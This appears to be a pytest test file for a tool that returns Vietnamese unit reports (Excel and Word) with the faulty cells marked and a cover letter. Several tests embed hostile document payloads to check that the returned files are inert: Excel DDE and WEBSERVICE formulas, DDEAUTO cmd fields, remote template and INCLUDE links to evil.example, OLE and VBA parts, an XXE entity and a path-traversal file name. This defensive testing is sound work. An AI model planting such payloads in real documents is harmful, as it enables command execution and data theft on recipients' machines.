"""What goes back to a unit: the exact cell marked, a complete letter, and nothing that could
run."""

import datetime as dt
import hashlib
import re
import shutil
import time
import zipfile
from io import BytesIO
from pathlib import Path

import duckdb
import openpyxl
import pytest
from docx import Document
from openpyxl.workbook.defined_name import DefinedName

from sources.blank_form import fill_form
from sources.campaigns import load_campaign
from sources.samples.layouts import LAYOUTS
from sources.samples.reports import make_reports
from warehouse.reports.feedback import write_feedback
from warehouse.reports.feedback.file_names import safe_name, safe_stem
from warehouse.reports.feedback.returned_files import MAX_FINDINGS

CAMPAIGN = load_campaign()
UNIT = CAMPAIGN.registry.communes[2]
BEFORE = dt.datetime(2022, 4, 16, 20, tzinfo=CAMPAIGN.zone)
AFTER = dt.datetime(2022, 4, 19, 20, tzinfo=CAMPAIGN.zone)
MESSAGE = "Số đảng viên dự (40) lớn hơn tổng số đảng viên (20). Đề nghị kiểm tra lại."
LETTER = "thu-gui-don-vi.txt"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


class Night:
    """A warehouse with nothing but submissions and findings, and the originals beside it."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.home = folder, folder / "feedback"
        self.con = duckdb.connect()
        self.con.execute("""
            CREATE TABLE submission (submission_id VARCHAR, file_name VARCHAR, sha256 VARCHAR, received_at TIMESTAMPTZ,
                channel VARCHAR, sender VARCHAR, unit_code VARCHAR, status VARCHAR, reason VARCHAR, set_aside BOOLEAN);
            CREATE TABLE finding (submission_id VARCHAR, rule VARCHAR, severity VARCHAR, section VARCHAR,
                row_name VARCHAR, field VARCHAR, value VARCHAR, sheet VARCHAR, cell VARCHAR, message VARCHAR,
                replaced BOOLEAN)""")

    def original(self, sha256: str) -> Path:
        return self.folder / sha256

    def came(
        self,
        name,
        data=b"",
        status="returned",
        unit=UNIT.code,
        at="2022-04-15 08:00+07",
        reason=None,
    ):
        sha256 = hashlib.sha256(data).hexdigest()
        self.original(sha256).write_bytes(data)
        self.con.execute(
            "INSERT INTO submission VALUES (?, ?, ?, ?, 'folder', NULL, ?, ?, ?, false)",
            [name, name, sha256, at, unit, status, reason],
        )

    def found(
        self,
        name,
        sheet="Chi bộ",
        cell="G5",
        message=MESSAGE,
        severity="error",
        value="40",
        about=("attended_exceeds_total", "cells", "Chi bộ thôn A", "members_attended"),
    ):
        """`about` is the finding's rule, section, row and field."""
        rule, *place = about
        self.con.execute(
            "INSERT INTO finding VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, false)",
            [name, rule, severity, *place, value, sheet, cell, message],
        )

    def feedback(self, as_of=AFTER, unit=UNIT.code) -> dict[str, Path]:
        written = write_feedback(self.con, CAMPAIGN, as_of, self.home, self.original)
        return {p.name: p for p in written if p.parent.name == unit}


@pytest.fixture
def night(tmp_path):
    return Night(tmp_path)


def report(tmp_path, layout="form") -> bytes:
    kind = LAYOUTS[layout]
    path = tmp_path / f"báo cáo.{kind.extension}"
    kind.write(make_reports([UNIT], CAMPAIGN, 1)[0], UNIT, CAMPAIGN, path, None)
    return path.read_bytes()


def workbook(**cells) -> bytes:
    """A workbook with a sheet “Chi bộ” that holds these values by ref."""
    book = openpyxl.Workbook()
    book.active.title = "Chi bộ"
    for ref, value in cells.items():
        book.active[ref] = value
    return saved(book)


def saved(book) -> bytes:
    stream = BytesIO()
    book.save(stream)
    return stream.getvalue()


def test_only_the_wrong_cell_is_coloured_and_commented(night, tmp_path):
    night.came("BC.xlsx", report(tmp_path))
    night.found("BC.xlsx")
    marked = openpyxl.load_workbook(night.feedback()["Cần sửa - BC.xlsx"])
    cells = [(s.title, c) for s in marked for row in s.iter_rows() for c in row]
    comments = {(title, c.coordinate): c.comment.text for title, c in cells if c.comment}
    assert comments == {("Chi bộ", "G5"): f"Sai: {MESSAGE}"}
    assert marked["Chi bộ"]["G5"].fill.fgColor.rgb.endswith("F4B183")
    assert not marked["Chi bộ"]["G6"].fill.fgColor.rgb.endswith("F4B183")


def test_list_sheet_is_first_and_links_to_each_cell(night, tmp_path):
    night.came("BC.xlsx", report(tmp_path))
    night.found("BC.xlsx")
    night.found("BC.xlsx", cell="D6", message="Ngoài thời gian.", severity="warning", value="20/4")
    sheet = openpyxl.load_workbook(night.feedback()["Cần sửa - BC.xlsx"]).worksheets[0]
    assert sheet.title == "Cần sửa"
    assert [[c.value for c in row] for row in sheet.iter_rows(5, 6)] == [
        ["1", "Sai", "trang “Chi bộ”, ô G5", "Chi bộ thôn A – Số đảng viên dự", "40", MESSAGE],
        [
            "2",
            "Xem lại",
            "trang “Chi bộ”, ô D6",
            "Chi bộ thôn A – Số đảng viên dự",
            "20/4",
            "Ngoài thời gian.",
        ],
    ]
    assert [sheet[f"C{r}"].hyperlink.location for r in (5, 6)] == ["'Chi bộ'!G5", "'Chi bộ'!D6"]


def test_error_in_merged_range_is_marked_at_its_first_cell(night):
    book = openpyxl.load_workbook(BytesIO(workbook(F5="40")))
    book["Chi bộ"].merge_cells("F5:G6")
    night.came("BC.xlsx", saved(book))
    night.found("BC.xlsx", cell="G6")
    assert openpyxl.load_workbook(night.feedback()["Cần sửa - BC.xlsx"])["Chi bộ"]["F5"].comment


@pytest.mark.parametrize(
    ("sheet", "cell"),
    [
        ("Chi bộ", ""),
        ("Chi bộ", "ô G5"),
        ("Không có", "G5"),
        ("", ""),
        ("Chi bộ", "ZZZZ9"),
        ("Chi bộ", "A0"),
        ("Chi bộ", "A99999999"),
    ],
)
def test_missing_place_is_listed_but_not_marked(night, sheet, cell):
    night.came("BC.xlsx", workbook(A1="x"))
    night.found("BC.xlsx", sheet=sheet, cell=cell)
    marked = openpyxl.load_workbook(night.feedback()["Cần sửa - BC.xlsx"])
    assert marked["Cần sửa"]["F5"].value == MESSAGE
    assert not any(c.comment for row in marked["Chi bộ"].iter_rows() for c in row)


def test_returned_workbook_has_no_formula_link_macro_or_name(night):
    book = openpyxl.load_workbook(
        BytesIO(workbook(A1='=WEBSERVICE("http://x")', A2="=cmd|'/c calc'!A1"))
    )
    book["Chi bộ"]["A3"].hyperlink = "http://x"
    book.defined_names["Auto_Open"] = DefinedName("Auto_Open", attr_text="'Chi bộ'!$A$1")
    night.came("BC.xlsm", saved(book))
    night.found("BC.xlsm", message="=1+1", value='=HYPERLINK("http://x")', cell="G5")
    path = night.feedback()["Cần sửa - BC.xlsx"]
    marked = openpyxl.load_workbook(path)
    cells = [c for s in marked for row in s.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c for c in cells if c.hyperlink and c.hyperlink.target] and not marked.defined_names
    assert marked["Cần sửa"]["E5"].value == '=HYPERLINK("http://x")'
    assert not [
        n for n in zipfile.ZipFile(path).namelist() if "vba" in n.lower() or "external" in n.lower()
    ]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("BC.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)),
        ("BC.csv", "Đơn vị báo cáo;Xã Tân Sơn".encode()),
        ("BC.xlsx", b"PK\x03\x04" + bytes(200)),
        ("BC.xlsx", b""),
    ],
)
def test_unmarkable_file_gets_a_list_workbook(night, name, data):
    night.came(name, data)
    night.found(name, message="=1+1")
    sheet = openpyxl.load_workbook(night.feedback()["Cần sửa - BC.xlsx"]).active
    assert sheet["F4"].value == "=1+1" and sheet["F4"].data_type == "s"


def test_workbook_that_breaks_the_library_is_listed_and_next_is_marked(night, tmp_path):
    broken = tmp_path / "broken.zip"
    with zipfile.ZipFile(broken, "w") as archive:
        archive.writestr("xl/workbook.xml", "<not xml")
        archive.writestr("[Content_Types].xml", "<Types/>")
    night.came("a.xlsx", broken.read_bytes())
    night.came("b.xlsx", workbook(G5="40"), at="2022-04-15 09:00+07")
    night.found("a.xlsx")
    night.found("b.xlsx")
    returned = night.feedback()
    assert openpyxl.load_workbook(returned["Cần sửa - a.xlsx"]).sheetnames == ["Cần sửa"]
    assert openpyxl.load_workbook(returned["Cần sửa - b.xlsx"])["Chi bộ"]["G5"].comment


def test_rejected_file_is_not_reopened_and_its_reason_is_given(night, tmp_path):
    night.came(
        "hỏng.xlsx", report(tmp_path), status="rejected", reason="Tệp bị hỏng; đề nghị gửi lại."
    )
    returned = night.feedback()
    assert (
        openpyxl.load_workbook(returned["Cần sửa - hỏng.xlsx"]).active["A2"].value
        == "Tệp bị hỏng; đề nghị gửi lại."
    )
    assert "Tệp bị hỏng; đề nghị gửi lại." in returned[LETTER].read_text(encoding="utf-8")


def test_word_report_is_shaded_and_commented_at_errors(night, tmp_path):
    night.came("BC.docx", report(tmp_path, "docx"))
    attended = str(make_reports([UNIT], CAMPAIGN, 1)[0].rows["cells"][0]["members_attended"])
    night.found("BC.docx", sheet="Bảng 2", cell="G2", value=attended)
    night.found("BC.docx", sheet="Bảng 2", cell="G3", value="not what stands there")
    night.found("BC.docx", sheet="Đoạn 2", cell="2", message="Chuyên đề khác.")
    returned = night.feedback()
    marked = Document(str(returned["Cần sửa - BC.docx"]))
    assert sorted(c.text for c in marked.comments) == ["Sai: Chuyên đề khác.", f"Sai: {MESSAGE}"]
    shaded = [
        r.text
        for r in marked.tables[1].rows[1].cells[6].paragraphs[0].runs
        if 'fill="F4B183"' in r._r.xml
    ]
    assert shaded == [attended]
    assert openpyxl.load_workbook(returned["Cần sửa - BC.xlsx"]).sheetnames == ["Cần sửa"]


FIELD = '<w:p><w:fldSimple w:instr="{0}"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>'
SPLIT = "".join(
    f"<w:r><w:{part}</w:r>"
    for part in (
        'fldChar w:fldCharType="begin"/>',
        "instrText> DD</w:instrText>",
        "instrText>E{0}</w:instrText>",
        'fldChar w:fldCharType="separate"/>',
        "t>a</w:t>",
        'fldChar w:fldCharType="end"/>',
    )
)
RELATION = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
ACTS = re.compile(
    rb"DDE|INCLUDE|LINK|MERGE|http://evil|cmd|evil|TargetMode|fldSimple|fldChar|instrText|altChunk|object"
)
HOSTILE_PARTS = [  # a part of a Word report, and what stands in it
    ("word/header1.dat", f'<w:hdr xmlns:w="{W}">{FIELD.format("DDEAUTO cmd /c calc")}</w:hdr>'),
    (
        "word/header1.xml",
        f'<w:hdr xmlns:w="{W}"><w:p>{SPLIT.format("AUTO cmd calc")}</w:p></w:hdr>',
    ),
    ("word/document.xml", FIELD.format("INCLUDETEXT http://evil.example/x")),
    ("word/document.xml", FIELD.format("INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d")),
    ("word/document.xml", FIELD.format("LINK Excel.Sheet.12 http://evil.example/x.xlsx")),
    ("word/document.xml", FIELD.format("HYPERLINK file://evil.example/x")),
    ("word/document.xml", f"<w:p>{SPLIT.format('AUTO cmd calc')}</w:p>"),
    ("word/document.xml", f"<w:p>{SPLIT.format(SPLIT.format(' cmd'))}</w:p>"),
    ("word/document.xml", "<w:p><w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r></w:p>"),
    ("word/document.xml", '<w:altChunk r:id="evil"/>'),
    (
        "word/document.xml",
        '<w:p><w:r><w:object><o:OLEObject r:id="evil" ProgID="Package"/></w:object></w:r></w:p>',
    ),
    (
        "word/settings.xml",
        f'<w:settings xmlns:w="{W}"><w:mailMerge><w:query w:val="SELECT evil"/></w:mailMerge>'
        '<w:attachedTemplate w:val="evil"/></w:settings>',
    ),
    (
        "word/_rels/settings.xml.rels",
        RELATION.format(
            '<Relationship Id="evil" Type="http://x/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/>'
        ),
    ),
    (
        "word/_rels/document9.xml.rels",
        RELATION.format('<Relationship Id="evil" Type="http://x/unheardOf" Target="evil.bin"/>'),
    ),
    ("word/embeddings/oleObject1.bin", "evil"),
    ("word/vbaProject.bin", "evil"),
    ("evil.dat", "evil"),
    ("customXml/item9.xml", "<evil/>"),
    ("word/footnotes.xml", "<evil"),
    ("word/footer9.xml", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///evil">]><x>&y;</x>'),
]


def with_part(path: Path, name: str, content: str) -> bytes:
    """The Word report with a part more, or with more in the body of its document."""
    with zipfile.ZipFile(path) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    document = parts["word/document.xml"].decode()
    if name == "word/document.xml":
        content = document.replace("<w:body>", f"<w:body>{content}", 1)
    parts[name] = content.encode()
    stream = BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for part, data in parts.items():
            archive.writestr(part, data)
    return stream.getvalue()


@pytest.mark.parametrize(("name", "content"), HOSTILE_PARTS, ids=range(len(HOSTILE_PARTS)))
def test_returned_word_report_has_no_original_parts(night, tmp_path, name, content):
    path = tmp_path / "hostile.docx"
    path.write_bytes(report(tmp_path, "docx_plain"))
    night.came("BC.docx", with_part(path, name, content))
    night.found("BC.docx", sheet="Đoạn 2" if name != "word/document.xml" else "Đoạn 3")
    returned = night.feedback()
    assert "Cần sửa - BC.xlsx" in returned
    copy = returned["Cần sửa - BC.docx"]
    ours = BytesIO()
    Document().save(ours)
    with zipfile.ZipFile(copy) as package, zipfile.ZipFile(ours) as template:
        assert set(package.namelist()) <= {*template.namelist(), "word/comments.xml"}
        for part in package.namelist():
            content = package.read(part)
            if part == "word/styles.xml" or (
                part in template.namelist() and content == template.read(part)
            ):
                continue
            assert not ACTS.search(content), part


def test_word_report_is_rebuilt_with_texts_tables_and_merged_cells(night, tmp_path):
    original = Document()
    original.add_paragraph("Kính gửi: Ban Tuyên giáo").add_run(" =1+1").bold = True
    table = original.add_table(rows=3, cols=3)
    table.cell(0, 0).merge(table.cell(1, 0)).text = "Chi bộ"
    table.cell(0, 1).merge(table.cell(0, 2)).text = "Đảng viên"
    for column, text in enumerate(("Thôn A", "20", "40")):
        table.cell(2, column).text = text
    night.came("BC.docx", saved(original))
    night.found("BC.docx", sheet="Bảng 1", cell="C3")
    night.found("BC.docx", sheet="Bảng 1", cell="C1", value="Đảng viên", message="Hai cột.")
    copy = Document(str(night.feedback()["Cần sửa - BC.docx"]))
    assert copy.paragraphs[1].text == "Kính gửi: Ban Tuyên giáo =1+1"
    assert [[cell.text for cell in row.cells] for row in copy.tables[0].rows] == [
        ["Chi bộ", "Đảng viên", "Đảng viên"],
        ["Chi bộ", "", ""],
        ["Thôn A", "20", "40"],
    ]
    assert sorted(comment.text for comment in copy.comments) == ["Sai: Hai cột.", f"Sai: {MESSAGE}"]
    assert copy.core_properties.author == CAMPAIGN.document.issuer_name


def test_returned_workbook_is_inert_and_sheet_is_found_by_masked_name(
    night,
):
    book = openpyxl.load_workbook(BytesIO(workbook(A1=1, A2=2, B1="x")))
    book.properties.creator = "Nguyễn Văn A"
    chart = openpyxl.chart.BarChart()
    chart.add_data(openpyxl.chart.Reference(book["Chi bộ"], min_col=1, min_row=1, max_row=2))
    book["Chi bộ"].add_chart(chart, "D4")
    book["Chi bộ"].defined_names["Print_Area"] = DefinedName(
        "Print_Area", attr_text="'Chi bộ'!$A$1"
    )
    book["Chi bộ"].add_table(openpyxl.worksheet.table.Table(displayName="T", ref="A3:B4"))
    book["Chi bộ"]["A3"], book["Chi bộ"]["B3"] = "một", "hai"
    book["Chi bộ"].oddHeader.center.text = "&G evil"
    book["Chi bộ"]["B2"].comment = openpyxl.comments.Comment("evil", "Nguyễn Văn A")
    book["Chi bộ"]["XFD1048576"] = "xa"
    book.create_sheet("Nguyễn Văn A")["G5"] = "40"
    book.create_chartsheet("Biểu đồ").add_chart(openpyxl.chart.BarChart())
    book["Chi bộ"]["B1"].value, book["Chi bộ"]["B1"].data_type = "=cmd|'/c calc'!A1", "s"
    night.came("BC.xlsx", saved(book))
    night.found("BC.xlsx", sheet="…")
    path = night.feedback()["Cần sửa - BC.xlsx"]
    marked = openpyxl.load_workbook(path)
    assert marked.sheetnames == ["Cần sửa", "Chi bộ", "Nguyễn Văn A"]
    assert marked["Nguyễn Văn A"]["G5"].comment
    assert marked["Chi bộ"]["B1"].data_type == "s" and not marked["Chi bộ"].defined_names
    assert marked.properties.creator == CAMPAIGN.document.issuer_name
    assert marked["Chi bộ"]["B1"].quotePrefix and not marked["Chi bộ"]["A1"].quotePrefix
    assert (marked["Chi bộ"]["A1"].value, marked["Chi bộ"]["XFD1048576"].value) == (1, "xa")
    assert not [
        n for n in zipfile.ZipFile(path).namelist() if "chart" in n or "media" in n or "table" in n
    ]
    assert "evil" not in "".join(
        zipfile.ZipFile(path).read(n).decode() for n in zipfile.ZipFile(path).namelist()
    )


def test_letter_names_file_cell_fix_and_deadline(night, tmp_path):
    night.came("thư/BC Tân Sơn.xlsx", report(tmp_path))
    night.found("thư/BC Tân Sơn.xlsx")
    early, late = (
        night.feedback(as_of)[LETTER].read_text(encoding="utf-8") for as_of in (BEFORE, AFTER)
    )
    assert early.startswith(f"Kính gửi: {UNIT.aliases[0]}\n")
    assert "nhận lúc 08 giờ 00 phút ngày 15/4/2022" in early
    assert f"- Trang “Chi bộ”, ô G5 (Chi bộ thôn A – Số đảng viên dự): {MESSAGE}\n" in early
    first = early.splitlines()[2]
    assert f"đã nhận báo cáo {CAMPAIGN.document.subject} của {UNIT.aliases[0]}" in first
    assert first.endswith(f"đề nghị {UNIT.aliases[0]} sửa và gửi lại trước ngày 18/4/2022.")
    assert "sửa và gửi lại trong thời gian sớm nhất" in late and "trước ngày" not in late
    assert "quý đơn vị" not in early + late
    assert "   - Cần sửa - BC Tân Sơn.xlsx\n" in early


def test_letter_lists_first_errors_and_counts_the_rest(night):
    night.came("BC.csv", b"x")
    for number in range(40):
        night.found("BC.csv", cell=f"G{number + 5}")
    text = night.feedback()[LETTER].read_text(encoding="utf-8")
    assert text.count("Trang “Chi bộ”") == 15 and "Còn 25 chỗ sai khác" in text


def test_unit_with_newer_good_file_need_not_resend(night, tmp_path):
    night.came("BC.xlsx", report(tmp_path))
    night.found("BC.xlsx")
    night.came("BC 2.xlsx", b"good", status="accepted", at="2022-04-15 10:00+07")
    night.con.execute("UPDATE finding SET replaced = true")
    text = night.feedback()[LETTER].read_text(encoding="utf-8")
    assert "không cần gửi lại" in text and "Cách gửi lại" not in text and "đã được thay" in text


def test_letter_about_a_later_wrong_file_says_that_the_report_counts(night, tmp_path):
    night.came("BC.xlsx", report(tmp_path), status="accepted")
    night.came("khác.docx", report(tmp_path, "docx"), at="2022-04-15 10:00+07")
    night.found("khác.docx", about=("other_topic", None, None, None))
    text = night.feedback()[LETTER].read_text(encoding="utf-8")
    assert f"của {UNIT.aliases[0]} đã được tổng hợp. Riêng tệp dưới đây không được tính" in text
    assert "chuyên đề khác" not in text.lower(), "the rule's name is no word of a letter"


def test_blank_form_goes_to_a_unit_of_which_nothing_was_readable(night, tmp_path):
    form = f"Biểu mẫu báo cáo - {UNIT.name}.xlsx"
    night.came("hỏng.xlsx", b"x", status="rejected", reason="Tệp bị hỏng; đề nghị gửi lại.")
    returned = night.feedback()
    text = returned[LETTER].read_text(encoding="utf-8")
    assert form in returned and f"   - {form}\n" in text
    assert "đã nhận tệp “hỏng.xlsx”" in text and "nhưng không đọc được" in text
    night.came("BC.xlsx", report(tmp_path), at="2022-04-15 10:00+07")
    night.found("BC.xlsx")
    assert form not in night.feedback()


def test_only_units_with_a_file_to_fix_have_a_folder(night, tmp_path):
    night.came("BC.xlsx", report(tmp_path))
    night.came("lạ.xlsx", b"?", status="rejected", unit=None)
    night.came("tốt.xlsx", b"!", status="accepted", unit="07540")
    night.feedback()
    assert [p.name for p in night.home.iterdir()] == [UNIT.code]
    night.con.execute("UPDATE submission SET status = 'duplicate' WHERE status = 'returned'")
    night.feedback()
    assert night.home.is_dir() and not list(night.home.iterdir())


def test_only_changed_files_are_marked_again(night):
    night.came("BC.xlsx", workbook(G5="40"))
    night.found("BC.xlsx")
    first = night.feedback()["Cần sửa - BC.xlsx"].stat().st_mtime_ns
    assert night.feedback()["Cần sửa - BC.xlsx"].stat().st_mtime_ns == first
    night.found("BC.xlsx", cell="G9")
    assert openpyxl.load_workbook(night.feedback()["Cần sửa - BC.xlsx"])["Chi bộ"]["G9"].comment


def test_feedback_rebuilt_later_has_same_bytes(night, tmp_path):
    night.came("bảng.xlsx", workbook(G5="40"))
    night.came("văn bản.docx", report(tmp_path, "docx_plain"))
    night.found("bảng.xlsx")
    night.found("văn bản.docx", sheet="Đoạn 2", cell="2")
    first = {name: path.read_bytes() for name, path in night.feedback().items()}
    assert {name.rpartition(".")[2] for name in first} == {"xlsx", "docx", "txt"}
    shutil.rmtree(night.home)
    time.sleep(2.1)  # a package tells even seconds
    assert {name: path.read_bytes() for name, path in night.feedback().items()} == first


def test_files_of_the_same_name_do_not_overwrite_each_other(night):
    for number, name in enumerate(("a/BC.xlsx", "b/bc.xlsx", "c/BC.csv")):
        night.came(name, workbook(A1=number), at=f"2022-04-15 0{number}:00+07")
    assert night.feedback().keys() == {
        "Cần sửa - BC.xlsx",
        "Cần sửa - bc (2).xlsx",
        "Cần sửa - BC (3).xlsx",
        LETTER,
    }


def test_thousands_of_findings_are_truncated(night):
    night.came("BC.csv", b"x")
    night.con.execute(
        f"INSERT INTO finding SELECT 'BC.csv', 'not_a_count', 'error', 'cells', NULL, 'members_total', "
        f"'?', 'Chi bộ', 'F' || i, 'Sai', false FROM range({MAX_FINDINGS + 500}) t(i)"
    )
    assert (
        openpyxl.load_workbook(night.feedback()["Cần sửa - BC.xlsx"]).active.max_row
        == MAX_FINDINGS + 3
    )


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("BC Xã Tân Sơn.xlsx", "BC Xã Tân Sơn"),
        ("../../etc/passwd", "passwd"),
        ("thư\\..\\BC?*.xlsx", "BC"),
        ("CON:|<>.xlsx", "CON"),
        ("...", "tep"),
        ("đ" * 400 + ".xlsx", "đ" * 75),
    ],
)
def test_file_name_becomes_safe_for_any_disk(name, safe):
    assert safe_stem(name) == safe and safe_name(safe) == safe


def test_protected_form_can_be_marked(night, tmp_path):
    fill_form(make_reports([UNIT], CAMPAIGN, 1)[0], UNIT, CAMPAIGN, tmp_path / "form.xlsx")
    night.came("BC.xlsx", (tmp_path / "form.xlsx").read_bytes())
    night.found("BC.xlsx", cell="F46", message="Tổng cộng khác.", severity="warning")
    marked = openpyxl.load_workbook(night.feedback()["Cần sửa - BC.xlsx"])
    assert marked["Chi bộ"]["F46"].comment.text == "Xem lại: Tổng cộng khác."
    assert not marked["Chi bộ"].protection.sheet
